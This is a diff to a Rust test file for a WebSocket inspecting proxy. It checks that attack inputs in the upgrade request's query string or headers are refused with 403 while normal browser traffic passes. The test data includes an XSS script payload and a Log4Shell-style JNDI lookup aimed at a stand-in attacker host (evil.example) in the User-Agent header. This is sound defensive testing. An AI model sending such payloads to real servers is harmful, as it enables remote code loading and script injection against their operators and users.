@@ -183,7 +183,7 @@ async fn xss_in_a_ping_a_pong_or_a_close_reason_is_blocked_and_never_reaches_the
 }
 
 #[tokio::test]
-async fn an_attack_in_the_upgrades_query_string_gets_403_and_no_upstream_connection() {
+async fn an_attack_in_the_upgrades_query_or_logged_headers_gets_403_and_no_upstream_connection() {
     let (upstream, proxy) = start().await;
     for path in [
         "/ws-inspected?room=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
@@ -195,10 +195,23 @@ async fn an_attack_in_the_upgrades_query_string_gets_403_and_no_upstream_connect
             Err(refusal) => assert_eq!(refusal.status, 403, "{path}"),
         }
     }
+    // Log4Shell rode in logged headers.
+    let jndi = HandshakeRequest::new("/ws-inspected")
+        .header("User-Agent", "${jndi:ldap://evil.example/a}");
+    match RawClient::handshake(proxy.addr, &jndi).await {
+        Ok(_) => panic!("a JNDI lookup in the User-Agent was upgraded"),
+        Err(refusal) => assert_eq!(refusal.status, 403),
+    }
     assert!(upstream.events().is_empty(), "{:?}", upstream.events());
-    // Ordinary parameters, a token and a search that reads like SQL pass.
+    // Ordinary parameters, a token, a search that reads like SQL and a browser's headers pass.
     let benign = "/ws-inspected?room=general&nick=O%27Brien&q=select+a+seat&debug&token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln";
-    let mut client = RawClient::handshake(proxy.addr, &HandshakeRequest::new(benign))
+    let browser = HandshakeRequest::new(benign)
+        .header(
+            "User-Agent",
+            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+        )
+        .header("Referer", "https://chat.example/rooms/general?tab=members&q=select+a+seat");
+    let mut client = RawClient::handshake(proxy.addr, &browser)
         .await
         .unwrap_or_else(|refusal| panic!("{refusal:?}\n{}", proxy.log_tail()));
     client.send(&FrameSpec::text(WARM_UP)).await;
